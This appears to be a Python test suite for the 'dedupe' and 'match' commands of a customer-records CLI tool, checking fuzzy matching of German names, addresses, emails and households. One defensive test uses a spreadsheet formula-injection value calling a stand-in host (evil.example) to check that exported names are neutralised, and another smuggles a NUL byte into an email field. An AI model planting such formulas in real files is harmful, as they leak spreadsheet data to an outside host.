"""Duplicate matching (issue 4): dedupe FILE.csv, match KEY."""
import csv
import io
import json
import subprocess
import os
import re

import clitest

HEADER = ["id", "salutation", "first_name", "last_name", "street", "postal_code", "city", "email", "phone",
          "birth_date"]
ROWS = [
    # The same man: umlaut transliterated, Str. for Straße, gmail spellings, phone formats.
    ["m1", "Herr", "Max", "Müller", "Hauptstraße 12", "10115", "Berlin", "max.mueller@gmail.com",
     "030 1234567", "1980-05-17"],
    ["m2", "", "Max", "Mueller", "Hauptstr. 12", "10115", "Berlin", "maxmueller+shop@googlemail.com",
     "+49 30 1234567", "1980-05-17"],
    # His wife: same address and phone, another first name: never merge.
    ["m3", "Frau", "Erika", "Müller", "Hauptstraße 12", "10115", "Berlin", "", "030 1234567", "1982-03-01"],
    ["s1", "", "Sabine", "Schmidt", "Lindenallee 5", "50667", "Köln", "sabine@example.de", "", ""],
    ["s2", "", "Sabine", "Schmitt", "Lindenallee 5", "50667", "Köln", "", "", ""],
    ["k1", "", "Klaus", "Weber", "Gartenweg 7", "80331", "München", "k.weber@web.de", "", "1970-01-01"],
]


class Dedupe(clitest.CliTest):
    def dedupe_rows(self, *args, db=False):
        r = self.run_cli("dedupe", *args, db=db)
        self.assertEqual(r.returncode, 0, r.stderr)
        text = r.stdout.decode("utf-8")
        # the first four columns as before: readers of them keep working
        self.assertTrue(text.startswith("id_a,id_b,score,decision,cluster,name_a,name_b\n"), text)
        rows = list(csv.reader(io.StringIO(text, newline="")))
        for row in rows[1:]:
            self.assertEqual(len(row), 7)
            self.assertRegex(row[2], r"^-?\d+\.\d{3}$")
            self.assertIn(row[3], ("merge", "review", "household"))
            self.assertTrue(row[0] and row[1] and row[4], row)
        return rows[1:], r.stderr.decode()

    def dedupe(self, *args):
        rows, err = self.dedupe_rows(*args)
        return {(a, b): (float(s), d) for a, b, s, d, *_ in rows}, err

    def test_cluster_and_names(self):
        rows, _ = self.dedupe_rows(self.write_csv("d.csv", HEADER, ROWS))
        by = {(r[0], r[1]): r for r in rows}
        self.assertEqual(by[("m1", "m2")][4:], ["m1", "Max Müller", "Max Mueller"])
        self.assertEqual(by[("s1", "s2")][4:], ["s1", "Sabine Schmidt", "Sabine Schmitt"])
        # a household pair names the household by its first member
        self.assertEqual(by[("m1", "m3")][3:6], ["household", "m1", "Max Müller"])
        # a chain a-b, b-c is one cluster named by a
        chain = [["c1", "", "Jan", "Kowalski", "Ringstraße 3", "01067", "Dresden", "jan@kowalski.de", "", ""],
                 ["c2", "", "Jan", "Kowalski", "Ringstr. 3", "01067", "Dresden", "", "0351 998877", ""],
                 ["c3", "", "J.", "Kowalski", "", "", "", "", "0351 998877", ""]]
        rows, _ = self.dedupe_rows(self.write_csv("c.csv", HEADER, chain))
        self.assertTrue(rows)
        self.assertEqual({r[4] for r in rows}, {"c1"}, rows)
        self.assertIn(("c2", "c3"), {(r[0], r[1]) for r in rows})

    def test_exported_file_falls_back_to_the_number(self):
        """Issue 12: the file 'patron export' wrote has an empty 'id' for
        customers without an external reference; the pairs name them by
        their customer numbers, not ",,"."""
        self.ok("import", self.write_csv("d.csv", HEADER, ROWS))
        self.ok("create", "first_name=Lena", "last_name=Schulz", "email=lena@schulz.de")
        self.ok("create", "first_name=Lena", "last_name=Schulz", "email=lena@schulz.de")
        exported = self.path("export.csv")
        with open(exported, "w", encoding="utf-8", newline="") as f:
            f.write(self.ok("export"))
        rows, err = self.dedupe_rows(exported)
        self.assertEqual(err, "")
        pairs = {(r[0], r[1]): r for r in rows}
        self.assertIn(("m1", "m2"), pairs)                    # the 'id' column where it has a value
        self.assertEqual(pairs[("K000007", "K000008")][4:], ["K000007", "Lena Schulz", "Lena Schulz"])
        # a file with neither column is refused with a message
        self.assertIn("no 'id' or 'number' column",
                      self.fails(1, "dedupe", self.write_csv("n.csv", ["last_name"], [["A"]]), db=False))

    def test_database(self):
        """patron --db DB dedupe works on the stored customers."""
        self.assertIn("no database", self.fails(1, "dedupe"))
        self.ok("import", self.write_csv("d.csv", HEADER, ROWS))
        rows, err = self.dedupe_rows(db=True)
        pairs = {(r[0], r[1]): r for r in rows}
        self.assertEqual(pairs[("K000001", "K000002")][3:], ["merge", "K000001", "Max Müller", "Max Mueller"])
        self.assertEqual(pairs[("K000004", "K000005")][3], "merge")
        self.assertNotIn("K000006", {x for p in pairs for x in p})
        # the same pairs as the CSV of the same rows, by number instead of id
        csv_pairs, _ = self.dedupe(self.path("d.csv"))
        num = {"m1": "K000001", "m2": "K000002", "m3": "K000003", "s1": "K000004", "s2": "K000005"}
        self.assertEqual({(num[a], num[b]): v[1] for (a, b), v in csv_pairs.items()},
                         {k: r[3] for k, r in pairs.items()})
        self.assertIn("--identifier is for a CSV file", self.fails(2, "dedupe", "--identifier", "card"))
        # the review queue is filled by a scan: full the first time, then only
        # what was saved since (the pairs themselves are matched once per run)
        self.assertIn("full scan of 6 customers", err)
        rows2, err = self.dedupe_rows(db=True)
        self.assertEqual(rows2, rows)
        self.assertIn("incremental scan of 0 customers", err)
        self.ok("create", "first_name=Max", "last_name=Müller", "email=max@example.org")
        _, err = self.dedupe_rows(db=True)
        self.assertIn("incremental scan of 1 customer)", err)

    def test_identifier_names_its_column(self):
        """--identifier NAME reads a plain column NAME (FEBRL's soc_sec_id)
        as the property it declares; without --identifier the same column is
        an unknown column, and a --map for it wins."""
        head = ["id", "first_name", "last_name", "street", "postal_code", "city", "card"]
        rows = [["x1", "Anna", "Schmidt", "Hauptstr. 1", "10115", "Berlin", "4711-0815"],
                ["x2", "Anna", "Schmidt", "Ringweg 9", "80331", "München", "4711-0815"],
                ["x3", "Bernd", "Kaiser", "Am Markt 2", "50667", "Köln", "9999-1111"]]
        plain = self.write_csv("plain.csv", head, rows)
        self.assertIn("unknown column: 'card'", self.fails(1, "dedupe", plain, db=False))
        pairs, _ = self.dedupe("--identifier", "card", plain)
        self.assertEqual(set(pairs), {("x1", "x2")})
        # the same file with the column written prop.card gives the same pairs
        prop = self.write_csv("prop.csv", head[:-1] + ["prop.card"], rows)
        self.assertEqual(self.dedupe("--identifier", "card", prop)[0], pairs)
        # a --map that skips the column wins over the implicit one
        self.assertIn("no column prop.card",
                      self.fails(1, "dedupe", "--identifier", "card", "--map", "card=-", plain, db=False))

    def test_german_duplicates(self):
        src = self.write_csv("d.csv", HEADER, ROWS)
        pairs, err = self.dedupe(src)
        self.assertEqual(err, "")
        self.assertEqual(pairs[("m1", "m2")][1], "merge")   # Müller/Mueller, Straße/Str.
        self.assertEqual(pairs[("s1", "s2")][1], "merge")   # Schmidt/Schmitt at one address
        self.assertNotEqual(pairs.get(("m1", "m3"), (0, "distinct"))[1], "merge")  # a household
        self.assertNotIn(("m1", "k1"), pairs)
        self.assertTrue(all(a < b for a, b in pairs))       # in input order
        self.assertFalse(os.path.exists(self.db))           # no database written

    def test_email_mode_and_separator(self):
        src = self.write_csv("d.csv", HEADER, ROWS, sep=";", bom=True)
        pairs, _ = self.dedupe(src, "--mode", "email")
        self.assertEqual(set(pairs), {("m1", "m2")})  # googlemail = gmail, dots and plus tags
        self.assertEqual(pairs[("m1", "m2")][1], "merge")

    def test_formula_names_are_text(self):
        """A name a customer typed as a spreadsheet formula does not run
        when the pairs file is opened in one: name_a/name_b get a ' in
        front, as 'patron export' writes it; the ids stay as given."""
        evil = '=HYPERLINK("http://evil.example/?"&A1,"Rechnung")'
        rows = [["f1", "", "", evil, "Ringstraße 3", "01067", "Dresden", "evil@example.de", "", ""],
                ["f2", "", "", evil, "Ringstr. 3", "01067", "Dresden", "evil@example.de", "", ""],
                ["-3", "", "Max", "+Muster", "Weg 1", "01067", "Dresden", "max@example.de", "", ""],
                ["-4", "", "Max", "+Muster", "Weg 1", "01067", "Dresden", "max@example.de", "", ""]]
        out, _ = self.dedupe_rows(self.write_csv("f.csv", HEADER, rows))
        by = {(r[0], r[1]): r for r in out}
        self.assertEqual(by[("f1", "f2")][5:], ["'" + evil, "'" + evil])
        self.assertEqual(by[("-3", "-4")][4:], ["-3", "Max +Muster", "Max +Muster"])  # not a formula
        r = self.run_cli("dedupe", self.path("f.csv"), db=False)
        self.assertIn(b'"\'=HYPERLINK(""http', r.stdout)  # quoted, as OWASP advises

    def test_standard_input_and_quoted_ids(self):
        rows = [list(r) for r in ROWS[:2]]
        rows[0][0] = "id, with comma"
        data = io.StringIO()
        csv.writer(data).writerows([HEADER] + rows)
        r = subprocess.run([clitest.PATRON, "dedupe", "-"], input=data.getvalue().encode(), cwd=self.dir,
                           env=self.env(), stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60)
        self.assertEqual(r.returncode, 0, r.stderr)
        out = list(csv.reader(io.StringIO(r.stdout.decode(), newline="")))
        self.assertEqual(out[1][:2], ["id, with comma", "m2"])

    def test_refused_rows_are_counted(self):
        src = self.write_csv("b.csv", ["id", "last_name", "email"],
                             [["1", "A", "a@x.de"], ["1", "B", "b@x.de"], ["2", "C", "kaputt"],
                              ["3", "D", "A@X.de"]])
        pairs, err = self.dedupe(src, "--mode", "email")
        self.assertEqual(set(pairs), {("1", "3")})
        # the row with the refused email takes part without it; the row
        # with a taken id cannot
        self.assertRegex(err, r"^patron: dedupe: 1 rows took part without one value the library refused.*\n"
                              r"patron: dedupe: 1 of 4 rows skipped \(line 3: .*external reference.*\)\n$")
        self.assertIn("'id' or 'number' column",
                      self.fails(1, "dedupe", self.write_csv("n.csv", ["last_name"], [["A"]]), db=False))
        self.assertIn("cannot open", self.fails(1, "dedupe", self.path("nope.csv"), db=False))

    def test_retried_row_keeps_its_place(self):
        """Issue 14: the batch checks the rows (once) and stops after the
        first one it refuses for a value; that row takes part without the
        value and keeps its place: rows without an id are named by the
        numbers made in row order, the third row's is K000003, not
        K000002, and the rows after are checked first from then on."""
        rows = [["", "Anna", "Huber", "a@x.de"], ["", "Bert", "Meier", "kaputt"], ["", "Anna", "Huber", "a@x.de"],
                ["", "Carl", "Ott", "c@x.de"], ["", "Dora", "Ott", "nix"], ["", "Carl", "Ott", "c@x.de"]]
        pairs, err = self.dedupe(self.write_csv("k.csv", ["id", "first_name", "last_name", "email"], rows),
                                 "--mode", "email")
        self.assertEqual(set(pairs), {("K000001", "K000003"), ("K000004", "K000006")})
        self.assertEqual(err, "patron: dedupe: 2 rows took part without one value the library refused "
                              "(such as a birth date that is no real date)\n")

    def test_birth_date_no_real_date_compared_as_given(self):
        """Issue 11: a birth date that is no real date (FEBRL3's 1902-78-03,
        a typo of a real one) is compared as given when it is the row's only
        refused value; import keeps refusing it."""
        head = ["id", "first_name", "last_name", "postal_code", "city", "email", "birth_date"]
        rows = [["b1", "Wiebke", "Quandtmann", "24103", "Kiel", "", "1993-18-19"],
                ["b2", "Wiebke", "Quandtmann", "24103", "Kiel", "", "1993-10-19"],
                ["b3", "Otto", "Brandt", "", "", "", "19.13.1970"],     # as given too
                ["b4", "Hans", "Mertens", "", "", "", "Montag"],         # no date: left out
                ["b5", "Ida", "Frey", "", "", "kaputt", "1984-19-05"]]  # two refused: skipped
        pairs, err = self.dedupe(self.write_csv("g.csv", head, rows))
        self.assertEqual(err, "patron: dedupe: 2 rows compared a birth date that is no real date as given "
                              "(e.g. 1993-18-19)\n"
                              "patron: dedupe: 1 rows took part without one value the library refused "
                              "(such as a birth date that is no real date)\n"
                              "patron: dedupe: 1 of 5 rows skipped (line 6: more than one value refused)\n")
        # compared: one digit off is the birth date's "partial" level, which
        # adds to the score of the same pair without it
        without = [list(r) for r in rows[:2]]
        without[0][6] = ""
        pairs0, err0 = self.dedupe(self.write_csv("h.csv", head, without))
        self.assertEqual(err0, "")
        self.assertIn(("b1", "b2"), pairs)
        self.assertGreater(pairs[("b1", "b2")][0], pairs0[("b1", "b2")][0])
        # the store keeps refusing it
        r = self.run_cli("import", self.path("g.csv"))
        self.assertNotEqual(r.returncode, 0)
        with open(self.path("g.rejects.csv"), encoding="utf-8", newline="") as f:
            rejects = {row[2]: row[1] for row in list(csv.reader(f))[1:]}
        self.assertEqual(set(rejects), {"b1", "b3", "b4", "b5"})
        self.assertIn("birth_date must be a real date", rejects["b1"])

    def test_nul_byte_is_refused_as_by_import(self):
        """Issue 13, defect 5: dedupe read "anna@example.de\\0evil" as
        "anna@example.de" and paired it; import refuses the row.  Both refuse
        it now, with the same words."""
        src = self.path("nul.csv")
        with open(src, "wb") as f:
            f.write(b"id,last_name,email\n1,Anna,anna@example.de\n2,Anna,anna@example.de\x00evil\n"
                    b"3,Anna,anna@example.de\n")
        pairs, err = self.dedupe(src, "--mode", "email")
        self.assertEqual(set(pairs), {("1", "3")})
        self.assertIn("1 of 3 rows skipped (line 3: field 3 contains a NUL byte)", err)
        r = self.run_cli("import", src)
        self.assertEqual(r.returncode, 1)
        with open(self.path("nul.rejects.csv"), "rb") as f:
            self.assertIn(b"field 3 contains a NUL byte", f.read())

    def test_generated_sample(self):
        src = self.gen_customers(300, seed=1)
        pairs, err = self.dedupe(src)
        self.assertEqual(err, "")
        with open(src, encoding="utf-8", newline="") as f:
            ids = [r["id"] for r in csv.DictReader(f)]
        self.assertTrue(pairs)
        self.assertTrue({x for p in pairs for x in p} <= set(ids))
        truth = {}
        with open(src + ".truth", encoding="utf-8", newline="") as f:
            for r in csv.DictReader(f):
                truth[r["id"]] = r["person"]
        merges = [p for p, (s, d) in pairs.items() if d == "merge"]
        right = sum(truth[a] == truth[b] for a, b in merges)
        self.assertGreaterEqual(right / len(merges), 0.95)

    def test_many_parts_same_as_import(self):
        """Issue 14: dedupe reads the rows in parts of 8192 on all cores.
        On ~9.5 k generated rows (two parts) with rows import refuses (an
        id given before, a NUL byte, a row of too few fields) spread over
        both parts: the same rows are refused for the same reasons, and the
        pairs are those of 'import' then 'dedupe' on the store, pair by
        pair with score and decision."""
        # the store is SQLite here also when the suite runs on PostgreSQL
        # (cli-postgres): what is compared is the file's path, and 9 k rows
        # imported into a server on a loaded machine outlast the timeout
        self.db = self.path("parts.db")
        src = self.gen_customers(7000, seed=5)
        with open(src, "rb") as f:
            lines = f.read().split(b"\n")
        head, body = lines[0], [x for x in lines[1:] if x]
        self.assertGreater(len(body), 8192 + 500)
        bad = {}
        for at, kind in ((17, 2), (4000, 1), (8190, 0), (8192, 2), (8193, 1), (9001, 0)):
            line = body[at]
            if kind == 0:
                body[at] = body[at - 1].split(b",", 1)[0] + b"," + line.split(b",", 1)[1]  # the id before
            elif kind == 1:
                body[at] = line.replace(b"@", b"\x00@", 1) if b"@" in line else line + b"\x00"
            else:
                body[at] = b"x" + str(at).encode() + b",Kurz"
            bad[at + 2] = body[at]
        data = head + b"\n" + b"\n".join(body) + b"\n"
        src = self.write_bytes("parts.csv", data)
        rows, err = self.dedupe_rows(src)
        self.assertTrue(rows)
        m = re.search(r"dedupe: (\d+) of (\d+) rows skipped", err)
        self.assertIsNotNone(m, err)
        self.assertEqual(int(m.group(1)), len(bad))
        r = self.run_cli("import", src)
        self.assertEqual(r.returncode, 1, r.stderr)
        with open(self.path("parts.rejects.csv"), encoding="utf-8", errors="replace", newline="") as f:
            rejects = list(csv.reader(f))
        self.assertEqual(len(rejects) - 1, len(bad))
        # the first three refusals dedupe names: the lines import names, for the same reason
        named = re.findall(r"line (\d+): ([^;)]*)", err)
        self.assertEqual(len(named), 3)
        for line, why in named:
            self.assertIn(int(line), bad)
            self.assertTrue(any(why.strip()[:40] in "".join(x) for x in rejects), (line, why))
        num = {}
        for x in self.read_csv(self.ok("export")):
            num[x["number"]] = x["id"]
        db_rows, _ = self.dedupe_rows(db=True)
        self.assertEqual({(num[a], num[b]): (s, d) for a, b, s, d, *_ in db_rows},
                         {(a, b): (s, d) for a, b, s, d, *_ in rows})
        self.assertGreater(len(rows), 500)


class Match(clitest.CliTest):
    def setUp(self):
        super().setUp()
        self.ok("import", self.write_csv("d.csv", HEADER, ROWS))

    def test_match_explains(self):
        out = self.ok("match", "m1")
        lines = out.splitlines()
        self.assertEqual(lines[0], "2 candidates for K000001 (Max Müller, 10115 Berlin, max.mueller@gmail.com)")
        self.assertRegex(lines[2], r"^1\. K000002  merge  probability [0-9.]+  score [0-9.]+  Max Mueller, 10115 Berlin")
        self.assertEqual(lines[3].split(), ["field", "K000001", "K000002", "level", "weight"])
        rows = {l.split()[0]: l.split() for l in lines[4:] if l.startswith("   ") and l.strip()}
        self.assertEqual(rows["last_name"][1:3], ["mueller", "mueller"])
        self.assertEqual(rows["street"][1], rows["street"][2])  # Straße and Str. normalised alike
        self.assertRegex(rows["last_name"][4], r"^\+\d+\.\d\d$")  # then, maybe, "(N of M customers, ...)"
        # Erika at the same address: a household, and the rule says so
        self.assertRegex(out, r"\n2\. K000003  household  probability [0-9.]+  score [0-9.]+  rule household ")
        # a value that several customers hold (a family's landline) says how
        # many, and what the level alone would have weighed
        self.assertRegex(out, r"\n   phone +\+49301234567 +\+49301234567 +exact +\+\d+\.\d\d  "
                              r"\(3 of 6 customers, instead of \+\d+\.\d\d\)\n")

    def test_match_json(self):
        cands = json.loads(self.ok("match", "K000001", "--json"))
        self.assertEqual([c["id"] for c in cands], [2, 3])
        self.assertEqual(cands[0]["decision"], "merge")
        fields = {f["field"]: f for f in cands[0]["fields"]}
        self.assertEqual(fields["email"]["a"], fields["email"]["b"])
        self.assertIn("level", fields["phone"])
        self.assertEqual(json.loads(self.ok("match", "K000001", "--json", "--mode", "email"))[0]["id"], 2)

    def test_no_candidates(self):
        self.assertEqual(self.ok("match", "k1"), "no candidates for K000006 (Klaus Weber, 80331 München, "
                                                 "k.weber@web.de)\n")
        self.assertEqual(json.loads(self.ok("match", "k1", "--json")), [])
        self.assertIn("no customer", self.fails(1, "match", "nobody"))


if __name__ == "__main__":
    clitest.main()
